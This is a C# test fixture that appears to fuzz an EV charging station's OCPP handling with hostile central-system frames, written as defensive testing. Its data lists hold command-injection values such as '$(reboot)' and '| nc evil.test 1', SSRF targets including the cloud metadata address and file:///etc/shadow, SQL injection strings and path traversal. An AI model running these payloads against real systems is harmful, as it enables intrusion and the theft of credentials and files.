using System.Text;
using Ampwright.TestKit;

namespace Ampwright.Station.Tests.Hostile;

/// <summary>What a CSMS that means harm sends: orders a station would carry out, pushed to their limits, and most of them broken besides.</summary>
internal sealed class HostileFrames
{
    /// <summary>The only hosts the station may go to for files.</summary>
    public static readonly string[] FileHosts = ["files.test", "*.allowed.test"];

    private static readonly string[] Locations =
    [
        "http://files.test/fw.bin", "ftp://u:p@files.test/logs", "https://a.allowed.test/x", "http://files.test:81/fw?x=1", "http://evil.test/x", "https://files.test.evil.test/", "http://files.test@evil.test/",
        "http://evil.test#files.test", "http://evil.test/?files.test", "http://files.test\\\\@evil.test/", "http://files.test%2eevil.test/", "http://files.test%00.evil.test/", "http://allowed.test/", "http://evilallowed.test/",
        "http://127.0.0.1:22/", "http://localhost/", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://169.254.169.254/latest/meta-data", "ftp://evil.test/%2Fetc%2Fpasswd", "ftps://evil.test:990/",
        "file:///etc/passwd", "file://files.test/etc/shadow", "gopher://files.test:25/_HELO", "javascript:alert(1)", "data:text/plain,x", "//evil.test/x", "evil.test", "; reboot", "$(reboot)", "`reboot`", "| nc evil.test 1", "http://files.test/$(reboot)",
        "ftp://files.test/x%0d%0aDELE%20y", "http://u:p@files.test:99999/", "http://\u0000/", "HTTP://FILES.TEST/fw.bin", "http://files.test./x", "ldap://evil.test", "http://evil.test:80:80/",
    ];

    private static readonly string[] Limits = ["0", "-1", "5.9", "6", "10.5", "16", "32", "63", "1000", "2147483647", "99999999999999999999", "0.0000001", "1e9", "-0", "8.123456789"];

    private static readonly (string Key, string[] Values)[] Keys =
    [
        ("MeterValueSampleInterval", ["0", "1", "60", "2147483647", "-1"]), ("ClockAlignedDataInterval", ["0", "1", "900", "86400"]), ("HeartbeatInterval", ["1", "60", "0", "2147483647"]),
        ("ConnectionTimeOut", ["0", "1", "2147483647"]), ("ResetRetries", ["0", "3"]), ("MeterValuesSampledData", ["", "Energy.Active.Import.Register,Current.Offered", "Power.Active.Import,Voltage,Current.Import,SoC"]),
        ("AuthorizationKey", ["00112233445566778899AABBCCDDEEFF", "", "zz", "' OR 1=1"]), ("SecurityProfile", ["0", "1", "2", "3", "-1"]), ("AuthorizeRemoteTxRequests", ["true", "false"]),
        ("LocalAuthListEnabled", ["true", "false"]), ("AuthorizationCacheEnabled", ["true", "false"]), ("StopTxnSampledData", ["", "Energy.Active.Import.Register"]), ("WebSocketPingInterval", ["0", "30"]),
        ("TransactionMessageAttempts", ["0", "1", "3"]), ("TransactionMessageRetryInterval", ["0", "2147483647"]), ("LightIntensity", ["0", "100", "101"]), ("CpoName", ["x", "\\\"; DROP", "../../etc"]), ("NumberOfConnectors", ["99"]),
    ];

    private readonly Lock _gate = new(); // Frames go out while answers do.
    private readonly Random _random;
    private readonly FrameMutator _mutator;
    private int _count;

    public HostileFrames(int seed)
    {
        _random = new Random(seed);
        _mutator = new FrameMutator(_random, [.. Enumerable.Range(0, 200).Select(_ => Whole())]);
    }

    /// <summary>Another one: three of four are broken.</summary>
    public byte[] Next()
    {
        lock (_gate) return _random.Next(4) == 0 ? Whole() : _mutator.Mutate(Whole());
    }

    /// <summary>An answer as it should be, now and then broken.</summary>
    public byte[] Answer(string text)
    {
        lock (_gate) return _random.Next(4) == 0 ? _mutator.Mutate(Encoding.UTF8.GetBytes(text)) : Encoding.UTF8.GetBytes(text);
    }

    private byte[] Whole()
    {
        var (action, payload) = Order();
        return Encoding.UTF8.GetBytes($"[2,\"c-{++_count}\",\"{action}\",{payload}]");
    }

    private (string Action, string Payload) Order() => _random.Next(40) switch
    {
        0 or 1 => ("RemoteStartTransaction", $"{{\"connectorId\":{Connector},\"idTag\":\"{Tag}\",\"chargingProfile\":{Profile("TxProfile")}}}"),
        2 or 3 => ("RemoteStartTransaction", $"{{\"idTag\":\"{Tag}\"}}"),
        4 => ("RemoteStopTransaction", $"{{\"transactionId\":{_random.Next(-1, 40)}}}"),
        5 or 6 or 7 => ("SetChargingProfile", $"{{\"connectorId\":{Connector},\"csChargingProfiles\":{Profile(Pick("TxDefaultProfile", "ChargePointMaxProfile", "TxProfile"))}}}"),
        8 => ("ClearChargingProfile", Pick("{}", "{\"id\":1}", $"{{\"connectorId\":{Connector},\"stackLevel\":1}}")),
        9 => ("GetCompositeSchedule", $"{{\"connectorId\":{Connector},\"duration\":{Pick("0", "60", "86400", "2147483647", "-5")},\"chargingRateUnit\":\"{Pick("A", "W")}\"}}"),
        10 or 11 or 12 => Key(),
        13 => ("GetConfiguration", Pick("{}", "{\"key\":[\"AuthorizationKey\",\"HeartbeatInterval\"]}", $"{{\"key\":[{string.Join(",", Enumerable.Repeat("\"a\"", 300))}]}}")),
        14 or 15 => ("UpdateFirmware", $"{{\"location\":\"{Location}\",\"retrieveDate\":\"{Time}\",\"retries\":{_random.Next(3)},\"retryInterval\":1}}"),
        16 or 17 => ("GetDiagnostics", $"{{\"location\":\"{Location}\",\"retries\":{_random.Next(3)},\"retryInterval\":1,\"startTime\":\"{Time}\"}}"),
        18 or 19 => ("GetLog", $"{{\"logType\":\"{Pick("DiagnosticsLog", "SecurityLog")}\",\"requestId\":{_random.Next(9)},\"retries\":1,\"log\":{{\"remoteLocation\":\"{Location}\"}}}}"),
        20 or 21 => ("SignedUpdateFirmware", $"{{\"requestId\":{_random.Next(9)},\"retries\":1,\"firmware\":{{\"location\":\"{Location}\",\"retrieveDateTime\":\"{Time}\",\"signingCertificate\":\"-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----\",\"signature\":\"AAAA\"}}}}"),
        22 => ("ReserveNow", $"{{\"connectorId\":{Connector},\"expiryDate\":\"{Time}\",\"idTag\":\"{Tag}\",\"reservationId\":{_random.Next(-1, 5)}}}"),
        23 => ("CancelReservation", $"{{\"reservationId\":{_random.Next(5)}}}"),
        24 or 25 => ("SendLocalList", $"{{\"listVersion\":{Pick("0", "1", "-1", "2147483647")},\"updateType\":\"{Pick("Full", "Differential")}\",\"localAuthorizationList\":[{string.Join(",", Enumerable.Range(0, _random.Next(40)).Select(_ => $"{{\"idTag\":\"{Tag}\",\"idTagInfo\":{{\"status\":\"{Pick("Accepted", "Blocked")}\"}}}}"))}]}}"),
        26 => ("ChangeAvailability", $"{{\"connectorId\":{Connector},\"type\":\"{Pick("Operative", "Operative", "Inoperative")}\"}}"),
        27 => ("UnlockConnector", $"{{\"connectorId\":{Connector}}}"),
        28 => ("TriggerMessage", $"{{\"requestedMessage\":\"{Pick("BootNotification", "Heartbeat", "MeterValues", "StatusNotification", "DiagnosticsStatusNotification", "FirmwareStatusNotification")}\",\"connectorId\":{Connector}}}"),
        29 => ("ExtendedTriggerMessage", $"{{\"requestedMessage\":\"{Pick("LogStatusNotification", "MeterValues", "FirmwareStatusNotification", "Heartbeat")}\"}}"),
        30 => ("DataTransfer", $"{{\"vendorId\":\"{Pick("x", "$(reboot)", "../..")}\",\"messageId\":\"m\",\"data\":\"{new string('A', _random.Next(2000))}\"}}"),
        31 => ("InstallCertificate", "{\"certificateType\":\"CentralSystemRootCertificate\",\"certificate\":\"-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----\"}"),
        32 => ("DeleteCertificate", "{\"certificateHashData\":{\"hashAlgorithm\":\"SHA256\",\"issuerNameHash\":\"00\",\"issuerKeyHash\":\"00\",\"serialNumber\":\"0\"}}"),
        33 => ("GetInstalledCertificateIds", "{\"certificateType\":\"ManufacturerRootCertificate\"}"),
        34 => ("CertificateSigned", "{\"certificateChain\":\"-----BEGIN CERTIFICATE-----\\nMIIB\\n-----END CERTIFICATE-----\"}"),
        35 => ("ClearCache", "{}"),
        36 => ("GetLocalListVersion", "{}"),
        37 when _random.Next(40) == 0 => ("Reset", $"{{\"type\":\"{Pick("Soft", "Hard")}\"}}"),
        38 => ("StartTransaction", $"{{\"connectorId\":1,\"idTag\":\"{Tag}\",\"meterStart\":0,\"timestamp\":\"{Time}\"}}"),
        _ => (Pick("MakeCoffee", "", "Heartbeat", "\\ud800"), "{}"),
    };

    private (string, string) Key()
    {
        var (key, values) = Keys[_random.Next(Keys.Length)];
        return ("ChangeConfiguration", $"{{\"key\":\"{key}\",\"value\":\"{Pick(values)}\"}}");
    }

    private string Profile(string purpose)
    {
        var periods = string.Join(",", Enumerable.Range(0, 1 + _random.Next(4)).Select(number =>
            $"{{\"startPeriod\":{(number == 0 ? "0" : Pick("60", "3600", "-1", "2147483647"))},\"limit\":{Pick(Limits)},\"numberPhases\":{Pick("1", "3", "0", "4")}}}"));
        return $"{{\"chargingProfileId\":{_random.Next(-1, 6)},\"stackLevel\":{_random.Next(-1, 4)},\"chargingProfilePurpose\":\"{purpose}\",\"chargingProfileKind\":\"{Pick("Absolute", "Relative", "Recurring")}\",\"recurrencyKind\":\"{Pick("Daily", "Weekly")}\",\"validTo\":\"{Time}\",\"chargingSchedule\":{{\"startSchedule\":\"{Time}\",\"duration\":{Pick("60", "86400", "2147483647")},\"chargingRateUnit\":\"{Pick("A", "W")}\",\"minChargingRate\":{Pick(Limits)},\"chargingSchedulePeriod\":[{periods}]}}}}";
    }

    private string Connector => Pick("1", "2", "1", "2", "0", "3", "-1", "2147483647");

    private string Tag => Pick("GOOD", "good", "04A1B2C3", "X", "' OR 1=1 --", "a\\u0000b");

    private string Time => Pick("2026-03-01T12:00:00Z", "2026-03-01T13:00:00.5+01:00", "1970-01-01T00:00:00Z", "2099-12-31T23:59:59Z", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z");

    private string Location => Locations[_random.Next(Locations.Length)];

    private string Pick(params string[] from) => from[_random.Next(from.Length)];
}
